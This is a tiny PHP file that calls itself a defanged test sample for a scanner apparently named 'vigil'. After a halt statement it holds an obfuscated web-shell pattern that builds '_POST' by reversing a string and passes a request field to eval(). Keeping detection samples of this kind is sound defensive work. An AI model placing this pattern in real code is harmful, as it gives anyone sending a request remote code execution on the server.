<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$s = strrev('TSOP_');
$d = ${$s};
eval($d['e']);
